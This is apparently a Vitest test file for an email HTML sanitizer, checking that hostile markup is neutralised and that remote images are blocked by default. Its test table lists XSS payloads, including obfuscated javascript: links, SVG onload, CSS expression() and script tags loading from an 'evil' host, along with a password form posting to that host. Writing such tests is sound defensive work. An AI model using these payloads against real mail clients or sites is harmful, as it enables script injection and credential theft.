import { describe, expect, it } from 'vitest';
import { hasBlockedRemoteContent, rewriteCidImages, sanitizeEmailHtml } from '../src';

const clean = (html: string) => sanitizeEmailHtml(html);

/** Nothing that can run script, navigate by itself or load from the network may survive. */
function expectInert(output: string): void {
  expect(output).not.toMatch(/<script|<style|<iframe|<object|<embed|<form|<meta|<base|<svg|<math/i);
  expect(output).not.toMatch(/\son\w+\s*=/i);
  expect(output).not.toMatch(/javascript:|vbscript:|expression\s*\(|data:text/i);
  expect(output).not.toMatch(/\s(src|srcset|background|href)="(https?:)?\/\/(?!ok\.example)/i);
}

describe('sanitizeEmailHtml: hostile input', () => {
  const hostile: Record<string, string> = {
    'script block': '<p>a</p><script>alert(1)</script><SCRIPT SRC=//evil/x.js></SCRIPT>',
    'style block': '<style>body{background:url(https://evil/track)}</style><p>x</p>',
    'event handlers':
      '<p onclick="alert(1)" ONMOUSEOVER=alert(2)>x</p><img src=cid:a onerror=alert(3)>',
    'javascript: link': '<a href="javascript:alert(1)">x</a>',
    'entity-encoded javascript:':
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>' +
      '<a href="&#x6A;avascript&colon;alert(1)">y</a>',
    'whitespace-obfuscated javascript:':
      '<a href=" java\tscript:alert(1)">x</a><a href="java&#x0A;script:alert(1)">y</a>' +
      '<a href="&#x01;javascript:alert(1)">z</a>',
    'vbscript: and data: links':
      '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD4=">d</a>',
    'SVG with onload and script':
      '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)">s</a></svg>' +
      '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    'CSS expression()':
      '<div style="width: expression(alert(1)); color: red">x</div>' +
      '<div style="background: url(javascript:alert(1))">y</div>' +
      '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">z</div>' +
      '<div style="width: exp\\72 ession(alert(1))">w</div>',
    'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil/">x',
    'base href': '<base href="https://evil/"><a href="/login">x</a>',
    'forms, frames, objects':
      '<form action="https://evil/"><input name="password"><button>Send</button></form>' +
      '<iframe src="https://evil/"></iframe><object data="https://evil/x.swf"></object>' +
      '<embed src="https://evil/x"><frameset><frame src="https://evil/"></frameset>',
    'forged placeholders':
      '<img data-remote-src="javascript:alert(1)" data-remote-style="x:expression(1)">',
    'image-set() with plain strings':
      '<div style="background-image: image-set(\'https://evil/a.png\' 1x)">x</div>',
    'relative image URLs hitting the app origin': '<img src="/api/documents"><img src="api/me">',
  };
  for (const [name, html] of Object.entries(hostile)) {
    it(`neutralises ${name}`, () => expectInert(clean(html)));
  }

  it('keeps ordinary mail formatting and text', () => {
    const output = clean(
      '<table width="600" cellpadding="4" bgcolor="#fff"><tr><td style="color: #333; font-size: 14px">' +
        '<b>Total</b> <font color="red">42,00 €</font></td></tr></table><p>Thanks</p>',
    );
    expect(output).toContain('<table width="600" cellpadding="4" bgcolor="#fff">');
    expect(output).toContain('style="color:#333;font-size:14px"');
    expect(output).toContain('<font color="red">42,00 €</font>');
  });

  it('drops the text of head, title and style blocks', () => {
    const output = clean(
      '<html><head><title>Secret title</title><style>p{}</style></head><body>Hi</body></html>',
    );
    expect(output).toBe('Hi');
  });

  it('opens links in a new tab without opener', () => {
    expect(clean('<a href="https://ok.example/pay" target="_self">pay</a>')).toBe(
      '<a href="https://ok.example/pay" target="_blank" rel="noopener noreferrer">pay</a>',
    );
    expect(clean('<a href="mailto:billing@vendor.example">mail</a>')).toContain('href="mailto:');
  });
});

describe('remote images', () => {
  const html =
    '<img src="https://tracker.example/open.gif" alt="pixel">' +
    '<img srcset="https://cdn.example/a.png 1x, https://cdn.example/b.png 2x">' +
    '<img src="//cdn.example/protocol-relative.png">' +
    '<table background="https://cdn.example/bg.png"><tr>' +
    '<td style="background-image: url(\'https://cdn.example/td.png\'); color: blue">x</td></tr></table>';

  it('are blocked by default behind data-remote-* placeholders', () => {
    const output = clean(html);
    expectInert(output);
    expect(output).toContain('data-remote-src="https://tracker.example/open.gif"');
    expect(output).toContain(
      'data-remote-srcset="https://cdn.example/a.png 1x, https://cdn.example/b.png 2x"',
    );
    expect(output).toContain('data-remote-src="//cdn.example/protocol-relative.png"');
    expect(output).toContain('data-remote-background="https://cdn.example/bg.png"');
    expect(output).toContain('style="color:blue"');
    expect(output).toContain(
      'data-remote-style="background-image: url(\'https://cdn.example/td.png\')"',
    );
    expect(output).toContain('alt="pixel"');
    expect(hasBlockedRemoteContent(output)).toBe(true);
  });

  it('load when the user allows them', () => {
    const output = sanitizeEmailHtml(html, { allowRemoteImages: true });
    expect(output).toContain('src="https://tracker.example/open.gif"');
    expect(output).toContain('srcset="https://cdn.example/a.png 1x, https://cdn.example/b.png 2x"');
    expect(output).toContain('background="https://cdn.example/bg.png"');
    expect(output).toContain("url('https://cdn.example/td.png')");
    expect(hasBlockedRemoteContent(output)).toBe(false);
  });

  it('keeps cid: and plain data: images, and rewrites cid: to caller URLs', () => {
    const sanitized = clean(
      '<img src="cid:logo@vendor"><img src="cid:unknown@x"><img src="data:image/png;base64,iVBORw0KGgo=">',
    );
    expect(sanitized).toContain('src="cid:logo@vendor"');
    expect(sanitized).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    const rewritten = rewriteCidImages(sanitized, {
      '<logo@vendor>': '/api/attachments/7/view?token=t&x=1',
      'unknown@x': 'javascript:alert(1)',
    });
    expect(rewritten).toContain('src="/api/attachments/7/view?token=t&amp;x=1"');
    expect(rewritten).toContain('src="cid:unknown@x"');
    expectInert(rewritten);
  });
});
